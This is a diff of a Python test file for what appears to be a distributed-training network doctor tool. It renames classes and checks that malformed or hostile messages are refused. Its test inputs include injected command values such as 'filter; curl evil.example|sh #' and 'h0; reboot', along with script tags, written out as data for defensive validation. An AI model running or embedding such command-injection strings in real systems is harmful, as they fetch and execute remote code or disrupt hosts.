@@ -18,15 +18,17 @@ import scripts
 
 from ddpsafe._clock import Deadline
 from ddpsafe.doctor import Direction, Finding, Matrix, Report, _mesh
-from ddpsafe.doctor._mesh import protocol
-from ddpsafe.doctor._mesh.findings.all import judge, make_matrix
-from ddpsafe.doctor._mesh.findings.results import Case, pack, unpack
-from ddpsafe.doctor._mesh.messages import (
+from ddpsafe.doctor._mesh.connection import (
+    VERSION,
+)
+from ddpsafe.doctor._mesh.findings.all import make_findings, make_matrix
+from ddpsafe.doctor._mesh.findings.results import Results, pack, unpack
+from ddpsafe.doctor._mesh.protocol import (
     Announced,
     Contact,
     Dialled,
     Facts,
-    Gate,
+    FilterChain,
     Greeting,
     Node,
     NodeReport,
@@ -35,8 +37,8 @@ from ddpsafe.doctor._mesh.messages import (
     read,
     write,
 )
-from ddpsafe.doctor._mesh.reach import reach_hub
-from ddpsafe.doctor._mesh.server import Guest, Hub
+from ddpsafe.doctor._mesh.reach import reach_coordinator
+from ddpsafe.doctor._mesh.server import Client, Server
 from ddpsafe.doctor._mesh.transport import gather, wait_for
 
 if TYPE_CHECKING:
@@ -89,7 +91,9 @@ HELLO: Final = node(1)
 ROSTER: Final = Roster(
     nnodes=2, contacts=(node(0).contact(), node(1).contact()), seed=1, clock_s=1.0
 )
-TOLD: Final = NodeReport(dialled=(Dialled(0, "dropped"),), gates=(Gate("inet", "filter", "input"),))
+TOLD: Final = NodeReport(
+    dialled=(Dialled(0, "dropped"),), chains=(FilterChain("inet", "filter", "input"),)
+)
 
 
 @pytest.mark.parametrize(
@@ -134,8 +138,8 @@ TOLD: Final = NodeReport(dialled=(Dialled(0, "dropped"),), gates=(Gate("inet", "
         (ROSTER, ("contacts",), []),
         (ROSTER, ("seed",), -1),
         (ROSTER, ("clock_s",), float("inf")),
-        (TOLD, ("gates", 0, 1), "filter; curl evil.example|sh #"),
-        (TOLD, ("gates", 0, 0), "bridge"),
+        (TOLD, ("chains", 0, 1), "filter; curl evil.example|sh #"),
+        (TOLD, ("chains", 0, 0), "bridge"),
         (TOLD, ("dialled", 0, 1), "<script>"),
         (TOLD, ("dialled", 0, 2), float("inf")),
         (TOLD, ("dialled", 0, 5), ESCAPE),
@@ -153,9 +157,9 @@ def test_field_of_a_message_that_makes_no_sense_is_refused(
     assert is_refused(lambda: read(type(message), spoiled(message, place, value)))
 
 
-def a_case(**changed: Any) -> Case:
+def a_case(**changed: Any) -> Results:
     """Return what was collected of two nodes that do not reach each other."""
-    gates = (Gate("inet", "filter", "input"),)
+    chains = (FilterChain("inet", "filter", "input"),)
     known: dict[str, Any] = {
         "nnodes": 2,
         "backend": "gloo",
@@ -163,11 +167,11 @@ def a_case(**changed: Any) -> Case:
         "port": 29500,
         "nodes": {0: node(0), 1: node(1)},
         "reports": {
-            0: NodeReport(dialled=(Dialled(1, "dropped"),), gates=gates),
-            1: NodeReport(dialled=(Dialled(0, "refused", error="ECONNREFUSED"),), gates=gates),
+            0: NodeReport(dialled=(Dialled(1, "dropped"),), chains=chains),
+            1: NodeReport(dialled=(Dialled(0, "refused", error="ECONNREFUSED"),), chains=chains),
         },
     }
-    return Case(**{**known, **changed})
+    return Results(**{**known, **changed})
 
 
 @pytest.mark.parametrize(
@@ -180,7 +184,7 @@ def a_case(**changed: Any) -> Case:
         {"names": {7: "h7"}},
         {"garbled": {7: "hello"}},
         {"host": "h0; reboot"},
-        {"other_hub": 7},
+        {"other_coordinator": 7},
     ],
     ids=lambda each: next(iter(each)),
 )
@@ -189,7 +193,7 @@ def test_case_whose_parts_contradict_each_other_is_refused(changed: dict[str, An
     table = json.loads(json.dumps(write(a_case())))
     for name, value in changed.items():
         table[name] = json.loads(json.dumps(value, default=write))
-    assert is_refused(lambda: read(Case, table))
+    assert is_refused(lambda: read(Results, table))
 
 
 @pytest.mark.parametrize("packed", ["", "x", "eJw=", "e30=", "AAAA" * 10, "é"])
@@ -216,11 +220,11 @@ def test_every_node_makes_the_findings_itself(tmp_path: Path) -> None:
     )
     case = a_case(nodes={0: node(0, facts=facts), 1: other})
     again = unpack(pack(case))
-    assert judge(again) == judge(case)
+    assert make_findings(again) == make_findings(case)
     assert make_matrix(again) == make_matrix(case)
     pasted = [
         line.strip()
-        for finding in judge(again)
+        for finding in make_findings(again)
         for line in finding.fix.splitlines()
         if line.startswith("    ")
     ]
@@ -318,13 +322,13 @@ GARBAGE: Final = [
 
 
 @pytest.mark.parametrize("hello", GARBAGE, ids=lambda each: str(each)[:30])
-def test_guest_that_says_garbage_is_a_finding(hello: object) -> None:
+def test_node_that_says_garbage_is_a_finding(hello: object) -> None:
     """The honest node ends with a finding about it, not with a traceback."""
     endpoint = free_endpoint()
 
     async def come() -> None:
         greeting = Greeting(
-            version=protocol.VERSION,
+            version=VERSION,
             nnodes=2,
             node_rank=1,
             hostname="evil",
@@ -333,13 +337,13 @@ def test_guest_that_says_garbage_is_a_finding(hello: object) -> None:
             challenge="c",
         )
         host, _, port = endpoint.partition(":")
-        guest = await reach_hub(
+        client = await reach_coordinator(
             host, int(port), greeting, deadline=Deadline.after(SOON), on_trouble=lambda _: None
         )
-        assert isinstance(guest, Guest)
-        await guest.put("hello", hello)  # type: ignore[arg-type]
-        await wait_for(guest, "case", deadline=Deadline.after(SOON))
-        await guest.close()
+        assert isinstance(client, Client)
+        await client.put("hello", hello)  # type: ignore[arg-type]
+        await wait_for(client, "results", deadline=Deadline.after(SOON))
+        await client.close()
 
     findings, _ = beside(lambda: examined(endpoint, 0), lambda: asyncio.run(come()))
     assert "DS-MESH-014" in [finding.code for finding in findings]
@@ -351,19 +355,19 @@ def test_guest_that_says_garbage_is_a_finding(hello: object) -> None:
         ("roster", {"contacts": []}),
         ("roster", spoiled(ROSTER, ("contacts", 0, 2), 99999)),
         ("roster", {"findings": [{"severity": "x"}]}),
-        ("case", "garbage"),
-        ("case", {"findings": [{"code": "<script>", "severity": "x", "fact": ESCAPE}]}),
+        ("results", "garbage"),
+        ("results", {"findings": [{"code": "<script>", "severity": "x", "fact": ESCAPE}]}),
         ("all-reduce", "10.0.0.1:22"),
     ],
     ids=str,
 )
-def test_hub_that_says_garbage_is_a_finding(topic: str, value: object) -> None:
+def test_node_rank_0_that_says_garbage_is_a_finding(topic: str, value: object) -> None:
     """Every other node trusts node rank 0 with nothing but data."""
     endpoint = free_endpoint()
 
     async def serve() -> None:
         own = Greeting(
-            version=protocol.VERSION,
+            version=VERSION,
             nnodes=2,
             node_rank=0,
             hostname="evil",
@@ -371,9 +375,9 @@ def test_hub_that_says_garbage_is_a_finding(topic: str, value: object) -> None:
             job="",
             challenge="c",
         )
-        hub = Hub(own)
-        await hub.open(int(endpoint.partition(":")[2]))
-        await gather(hub, "hello", [1], deadline=Deadline.after(SOON))
+        server = Server(own)
+        await server.open(int(endpoint.partition(":")[2]))
+        await gather(server, "hello", [1], deadline=Deadline.after(SOON))
         contacts = (
             Contact(0, "10.77.0.1", 0, "ab", "", "m"),
             Contact(1, "10.77.0.2", 0, "ab", "", "n"),
@@ -381,10 +385,10 @@ def test_hub_that_says_garbage_is_a_finding(topic: str, value: object) -> None:
         honest = Roster(nnodes=2, contacts=contacts, seed=1, clock_s=0.0)
         said = {"roster": write(honest), "all-reduce": {"address": "", "port": 0}, topic: value}
         for each in said.items():
-            await hub.put(*each)  # type: ignore[arg-type]
-        while 1 not in hub.gone():  # noqa: ASYNC110 - the board tells by being asked
+            await server.put(*each)  # type: ignore[arg-type]
+        while 1 not in server.gone():  # noqa: ASYNC110 - the transport tells by being asked
             await asyncio.sleep(0.01)
-        await hub.close()
+        await server.close()
 
     findings, matrix = beside(lambda: examined(endpoint, 1), lambda: asyncio.run(serve()))
     assert [finding.code for finding in findings] == ["DS-MESH-014"]
@@ -404,7 +408,7 @@ def test_service_on_loopback_is_not_dialled_for_another_host() -> None:
         server = await asyncio.start_server(serve, "127.0.0.1", 0)
         port = server.sockets[0].getsockname()[1]
         from ddpsafe.doctor._mesh.job import Job
-        from ddpsafe.doctor._mesh.node import Member
+        from ddpsafe.doctor._mesh.node import LocalNode
 
         job = Job(
             nnodes=2,
@@ -415,15 +419,15 @@ def test_service_on_loopback_is_not_dialled_for_another_host() -> None:
             backend="gloo",
             timeout=SOON,
             facts={},
-            say=lambda _: None,
+            on_progress=lambda _: None,
             collective="skip",
         )
         contacts = (
             Contact(0, "127.0.0.1", port, "ab", "", "elsewhere"),
             Contact(1, "10.77.0.2", 0, "ab", "", "here"),
         )
-        member = Member(job, {})
-        told = await member.probe(Roster(nnodes=2, contacts=contacts, seed=1, clock_s=0.0))
+        local_node = LocalNode(job, {})
+        told = await local_node.probe(Roster(nnodes=2, contacts=contacts, seed=1, clock_s=0.0))
         server.close()
         return told
 
